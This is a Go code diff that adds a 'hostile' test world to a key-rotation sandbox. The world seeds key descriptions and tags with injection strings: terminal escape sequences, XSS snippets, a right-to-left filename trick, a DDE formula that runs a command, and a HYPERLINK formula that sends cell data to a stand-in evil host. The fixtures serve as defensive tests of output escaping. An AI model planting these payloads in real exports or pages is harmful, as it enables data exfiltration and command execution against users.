@@ -4,8 +4,10 @@ import (
 	"crypto/ed25519"
 	"crypto/rand"
 	"encoding/pem"
+	"fmt"
 	"iter"
 	"os"
+	"strings"
 	"time"
 
 	"golang.org/x/crypto/ssh"
@@ -14,7 +16,7 @@ import (
 )
 
 // worldNamed is a built-in world, or one of those that the tests need beside
-// them: few, and slow, where a rotation on demand takes five minutes.
+// them: few, slow (where a rotation on demand takes five minutes), and hostile.
 func worldNamed(name string) (sandbox.WorldSpec, sandbox.Options, error) {
 	o := sandbox.Options{Rand: sandbox.Seeded(1), RotationTakes: 200 * time.Millisecond}
 	switch name {
@@ -22,6 +24,8 @@ func worldNamed(name string) (sandbox.WorldSpec, sandbox.Options, error) {
 		return sandbox.WorldSpec{}, o, nil
 	case "few":
 		return few(), o, nil
+	case "hostile":
+		return hostile(), o, nil
 	case "slow":
 		o.RotationTakes = 5 * time.Minute
 		return few(), o, nil
@@ -30,11 +34,28 @@ func worldNamed(name string) (sandbox.WorldSpec, sandbox.Options, error) {
 	return w, o, err
 }
 
-// few is one account with two keys that could rotate and do not, and three that
-// do: small enough to follow every call.
+// oneAccount is a world of one account and one Region; ago dates its keys.
+func oneAccount(name string, seeds func(ago func(days int) time.Time) []sandbox.KeySeed) sandbox.WorldSpec {
+	keys := func(start time.Time) iter.Seq2[string, sandbox.KeySeed] {
+		all := seeds(func(days int) time.Time { return start.Add(-time.Duration(days) * 24 * time.Hour) })
+		return func(yield func(string, sandbox.KeySeed) bool) {
+			for _, seed := range all {
+				if !yield("us-east-1", seed) {
+					return
+				}
+			}
+		}
+	}
+	return sandbox.WorldSpec{
+		Name: name, Organization: "o-" + name + "0world00", Management: sandbox.Management,
+		Accounts: []sandbox.AccountSpec{{ID: sandbox.Management, Name: "only", Since: 900, On: []string{"us-east-1"}, Keys: keys}},
+	}
+}
+
+// few has two keys that could rotate and do not, and three that do: small enough
+// to follow every call.
 func few() sandbox.WorldSpec {
-	seeds := func(start time.Time) []sandbox.KeySeed {
-		ago := func(days int) time.Time { return start.Add(-time.Duration(days) * 24 * time.Hour) }
+	return oneAccount("few", func(ago func(int) time.Time) []sandbox.KeySeed {
 		rotating := func(name string) sandbox.KeySeed {
 			return sandbox.KeySeed{
 				Aliases: []string{"alias/" + name}, Created: ago(800), RotationSince: ago(800), RotationPeriodDays: 365,
@@ -51,20 +72,43 @@ func few() sandbox.WorldSpec {
 			{Aliases: []string{"alias/payments"}, Created: ago(800), Tags: map[string]string{"env": "prod", "owner": "payments"}},
 			rotating("ledger"), guarded, spent,
 		}
-	}
-	keys := func(start time.Time) iter.Seq2[string, sandbox.KeySeed] {
-		return func(yield func(string, sandbox.KeySeed) bool) {
-			for _, seed := range seeds(start) {
-				if !yield("us-east-1", seed) {
-					return
-				}
-			}
+	})
+}
+
+// many has n keys that could rotate and do not.
+func many(n int) sandbox.WorldSpec {
+	return oneAccount("many", func(ago func(int) time.Time) []sandbox.KeySeed {
+		var seeds []sandbox.KeySeed
+		for i := range n {
+			seeds = append(seeds, sandbox.KeySeed{
+				Aliases: []string{fmt.Sprintf("alias/k%02d", i)}, Created: ago(800), Tags: map[string]string{"env": []string{"dev", "prod"}[i%2]},
+			})
 		}
-	}
-	return sandbox.WorldSpec{
-		Name: "few", Organization: "o-few00world00", Management: sandbox.Management,
-		Accounts: []sandbox.AccountSpec{{ID: sandbox.Management, Name: "only", Since: 900, On: []string{"us-east-1"}, Keys: keys}},
-	}
+		return seeds
+	})
+}
+
+// hostile has keys whose descriptions and tags are not harmless to print.
+func hostile() sandbox.WorldSpec {
+	return oneAccount("hostile", func(ago func(int) time.Time) []sandbox.KeySeed {
+		var seeds []sandbox.KeySeed
+		for i, text := range []string{
+			"\x1b[2J\x1b[1;31mALL KEYS DELETED\x1b[0m\x07",
+			"\x1b]0;owned\x07 title",
+			`=HYPERLINK("http://evil.example/?"&A1,"details")`,
+			"+1+1 looks like a sum", "-2+3", "@SUM(1+1)", "=cmd|' /C calc'!A0",
+			"<script>alert('kms')</script>", "<img src=x onerror=alert(1)>",
+			"two\r\nlines,\tand \"quotes\" | and bars",
+			"a\u202egnp.exe", "\u009b31m one byte of escape",
+			strings.Repeat("very long ", 820)[:8192],
+		} {
+			seeds = append(seeds, sandbox.KeySeed{
+				Aliases: []string{fmt.Sprintf("alias/h%02d", i)}, Created: ago(800 + i), Description: text,
+				Tags: map[string]string{"owner": text[:min(len(text), 200)], "note": text[:min(len(text), 200)]},
+			})
+		}
+		return seeds
+	})
 }
 
 // guardedPolicy lets people in by the key's tag env.
